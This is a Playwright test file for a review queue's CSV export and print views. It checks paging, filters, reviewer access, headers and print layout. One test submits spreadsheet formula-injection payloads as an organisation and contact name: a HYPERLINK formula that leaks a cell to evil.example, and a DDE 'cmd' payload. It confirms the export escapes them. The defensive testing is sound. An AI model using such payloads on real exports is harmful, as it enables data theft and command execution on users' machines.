// Reviewers take the queue away as a CSV file and print a request: the file holds exactly what
// the queue shows for the same filters (every page of it), only what the reviewer may see, and
// nothing a spreadsheet would run; a printed request is the record without the screen's controls.
import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";

import type { Page } from "@playwright/test";

import { parseCsvFile } from "../test-support/csv";

import { createSession, createUser } from "./support/database";
import { expect, expectAccessible, test } from "./support/fixtures";
import { createSubmittedRequest, wikidataHeavy } from "./support/requests";
import { declareNoConflict } from "./support/review";
import { baseURL } from "./support/settings";

/** A word no other test's requests contain, so a search finds this test's requests only. */
const uniqueWord = () =>
  `zq${randomBytes(5)
    .toString("hex")
    .replace(/\d/g, (digit) => "abcdefghij"[Number(digit)]!)}`;

/** The references of every row of the queue as shown, following its pages to the end. */
async function queueReferences(page: Page) {
  const references: string[] = [];
  let pages = 0;
  for (;;) {
    pages += 1;
    references.push(...(await page.locator("tbody tr td:first-child a").allTextContents()));
    const next = page.getByRole("navigation", { name: "Pages" }).getByRole("link", { name: "Next page" });
    if ((await next.count()) === 0) return { references, pages };
    await next.click();
    await page.waitForURL(/after=/);
  }
}

/** Clicks the queue's download link and reads the file the browser saves. */
async function downloadCsv(page: Page) {
  const download = page.waitForEvent("download");
  await page.getByRole("link", { name: "Download as CSV" }).click();
  const file = await download;
  const [header, ...rows] = parseCsvFile(readFileSync((await file.path())!));
  const column = (name: string) => rows.map((row) => row[header!.indexOf(name)]!);
  return { filename: file.suggestedFilename(), header: header!, rows, column };
}

test("a WMF reviewer downloads the filtered, searched queue: every page of it, as the queue lists it", async ({ page, signInAs }) => {
  test.setTimeout(90_000);
  const word = uniqueWord();
  // More academic requests than one page holds, and others the kind filter must leave out.
  const academic = [];
  for (let index = 0; index < 28; index++) {
    academic.push(
      await createSubmittedRequest((answers) => {
        answers.who.requesterKind = "academic";
        answers.who.organisation = `Cartography ${word} lab ${index}`;
      }),
    );
  }
  await createSubmittedRequest((answers) => {
    answers.who.organisation = `Cartography ${word} non-profit`;
  });
  await signInAs("WMF_REVIEWER");

  await page.goto("/review");
  await page.getByLabel("Search", { exact: true }).fill(word);
  await page.getByLabel("Requester kind").selectOption({ label: "An academic or research institution" });
  await page.getByLabel("Sort").selectOption({ label: "Newest first" });
  await page.getByRole("button", { name: "Apply" }).click();
  await expect(page.getByRole("link", { name: "Download as CSV" })).toHaveAttribute("href", `/review/export.csv?view=new&kind=academic&q=${word}&sort=newest`);
  await expectAccessible(page);
  const { filename, header, rows, column } = await downloadCsv(page);

  const shown = await queueReferences(page);
  expect(shown.pages, "the view is longer than one page").toBe(2);
  expect(shown.references).toHaveLength(28);
  expect(column("Reference"), "the file lists the queue's rows, in the queue's order").toEqual(shown.references);
  expect(new Set(column("Reference"))).toEqual(new Set(academic.map((request) => request.reference)));

  expect(filename).toMatch(/^exceptional-access-queue-new-\d{4}-\d{2}-\d{2}\.csv$/);
  expect(header).toEqual([
    "Reference",
    "Status",
    "Submitted (UTC)",
    "Last activity (UTC)",
    "Requester kind",
    "Organisation",
    "Contact person",
    "Joint review",
    "Decided by email",
    "Red flags",
    "Warnings",
    "Special considerations",
    "Assigned to",
    "Exception",
    "APIs",
    "Access starts",
    "Access ends",
    "Check-in overdue",
    "Last check-in answered (UTC)",
    "Use case at last check-in",
    "Contributions promised",
    "Contributions delivered",
    "Contributions dropped",
    "Link",
  ]);
  expect(new Set(column("Status"))).toEqual(new Set(["Submitted"]));
  expect(new Set(column("Requester kind"))).toEqual(new Set(["An academic or research institution"]));
  expect(column("Organisation").every((organisation) => organisation.startsWith(`Cartography ${word} lab`))).toBe(true);
  const first = academic.find((request) => request.reference === rows[0]![0])!;
  expect(column("Link")[0]).toMatch(new RegExp(`/review/${first.id}$`));

  const response = await page.request.get(`/review/export.csv?view=new&kind=academic&q=${word}`);
  expect(response.headers()["content-type"]).toBe("text/csv; charset=utf-8; header=present");
  expect(response.headers()["content-disposition"]).toMatch(/^attachment; filename="exceptional-access-queue-new-\d{4}-\d{2}-\d{2}\.csv"$/);
  expect(response.headers()["cache-control"]).toBe("private, no-store");
  expect((await response.body()).toString("utf8")).toContain("\r\n");
});

test("a WMDE reviewer's file holds joint requests only; a requester's answer is 404", async ({ page, browser, signInAs }) => {
  const word = uniqueWord();
  const joint = await createSubmittedRequest((answers) => {
    wikidataHeavy(answers);
    answers.who.organisation = `Lexemes ${word}`;
  });
  await createSubmittedRequest((answers) => {
    answers.who.organisation = `Articles ${word}`;
  });
  await signInAs("WMDE_REVIEWER");
  await page.goto(`/review?q=${word}`);
  const { column } = await downloadCsv(page);
  expect(column("Reference")).toEqual([joint.reference]);

  for (const view of ["new", "in_review", "awaiting", "joint", "decided"]) {
    const [header, ...rows] = parseCsvFile(await (await page.request.get(`/review/export.csv?view=${view}`)).body());
    expect(new Set(rows.map((row) => row[header!.indexOf("Joint review")])), `${view}: joint requests only`).toEqual(
      rows.length > 0 ? new Set(["Yes"]) : new Set(),
    );
  }

  const requester = await browser.newContext({ baseURL });
  const person = await createUser("REQUESTER");
  await requester.addCookies([{ name: "authjs.session-token", value: await createSession(person.id), url: baseURL }]);
  const answer = await requester.request.get(`/review/export.csv?view=new&q=${word}`, { maxRedirects: 0 });
  expect(answer.status()).toBe(404);
  expect(await answer.text()).not.toContain(joint.reference);
  await requester.close();
});

test("an organisation name written as a spreadsheet formula arrives as text", async ({ page, signInAs }) => {
  const hostile = await createSubmittedRequest((answers) => {
    answers.who.organisation = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")';
    answers.who.contactName = "@SUM(1+1)*cmd|' /C calc'!A0";
  });
  await signInAs("WMF_REVIEWER");
  await page.goto(`/review?q=${hostile.reference}`);
  await expect(page.getByRole("row").filter({ hasText: hostile.reference })).toContainText('=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")');
  const { rows, column } = await downloadCsv(page);
  expect(rows).toHaveLength(1);
  expect(column("Organisation")).toEqual(['\'=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")']);
  expect(column("Contact person")).toEqual(["'@SUM(1+1)*cmd|' /C calc'!A0"]);
  for (const row of rows) for (const cell of row) expect(cell, "no cell starts as a formula").not.toMatch(/^[=+\-@\t\r]/);
});

/** Replaces the browser's print dialogue with a counter, so the Print button can be clicked headless. */
async function countPrints(page: Page) {
  await page.addInitScript(() => {
    const counted = window as unknown as { prints: number };
    counted.prints = 0;
    window.print = () => {
      counted.prints += 1;
    };
  });
  return () => page.evaluate(() => (window as unknown as { prints: number }).prints);
}

test("a request prints as its record: answers, flags, assessments and history, without navigation or controls", async ({ page, browser, signInAs }) => {
  const request = await createSubmittedRequest((answers) => {
    answers.who.organisation = "Open Maps Lab";
  });
  const prints = await countPrints(page);
  await signInAs("WMF_REVIEWER");
  await page.goto(`/review/${request.id}`);
  await page.getByRole("button", { name: "Take this request" }).click();
  await expect(page.getByText("In review", { exact: true })).toBeVisible();
  await declareNoConflict(page);
  await page.getByRole("button", { name: "Print" }).click();
  expect(await prints()).toBe(1);

  const onScreen = [
    page.getByRole("navigation", { name: "Main" }),
    page.getByRole("button", { name: "Print" }),
    page.getByRole("button", { name: "Release", exact: true }),
    page.locator("summary").filter({ hasText: "Assess Who" }),
    page.getByRole("link", { name: "Back to the queue" }),
  ];
  for (const element of onScreen) await expect(element).toBeVisible();
  await expect(page.getByText(/This printout shows the request as it stood on/)).toBeHidden();

  await page.emulateMedia({ media: "print" });
  for (const element of onScreen) await expect(element).toBeHidden();
  await expect(page.locator("form").first()).toBeHidden();
  await expect(page.locator(".skip-link")).toBeHidden();
  await expect(page.locator(".site-footer")).toBeHidden();
  await expect(page.getByRole("heading", { level: 1, name: `Review ${request.reference}` })).toBeVisible();
  await expect(page.getByText(/This printout shows the request as it stood on/)).toBeVisible();
  for (const heading of ["Who", "What", "Need", "Obligation", "Mission alignment", "Values alignment", "At a glance", /^Flags \d+$/, /^History \(\d+\)$/]) {
    await expect(page.getByRole("heading", { name: heading, exact: typeof heading === "string" })).toBeVisible();
  }
  await expect(page.getByText("Open Maps Lab").first()).toBeVisible();
  await expect(page.getByRole("table", { name: "Assessments" })).toBeVisible();
  await expect(page.locator(".timeline")).toContainText("Taken");
  const colours = await page.locator("h1").evaluate((element) => [getComputedStyle(element).color, getComputedStyle(document.body).backgroundColor]);
  expect(colours[0]).toBe("rgb(0, 0, 0)");
  const pdf = await page.pdf({ format: "A4" });
  expect(pdf.subarray(0, 5).toString()).toBe("%PDF-");

  // The requester's own page prints the same way.
  const requesterContext = await browser.newContext({ baseURL });
  await requesterContext.addCookies([{ name: "authjs.session-token", value: await createSession(request.requester.id), url: baseURL }]);
  const own = await requesterContext.newPage();
  await own.goto(`/requests/${request.id}`);
  await expect(own.getByRole("button", { name: "Print" })).toBeVisible();
  await expectAccessible(own);
  await own.emulateMedia({ media: "print" });
  await expect(own.getByRole("navigation", { name: "Main" })).toBeHidden();
  await expect(own.getByRole("button", { name: "Print" })).toBeHidden();
  await expect(own.getByRole("link", { name: "Cancel this request" })).toBeHidden();
  await expect(own.getByText(/This printout shows the request as it stood on/)).toBeVisible();
  await expect(own.getByRole("heading", { name: "Values alignment", exact: true })).toBeVisible();
  await expect(own.getByText("Open Maps Lab").first()).toBeVisible();
  expect((await own.pdf()).subarray(0, 5).toString()).toBe("%PDF-");
  await requesterContext.close();
});
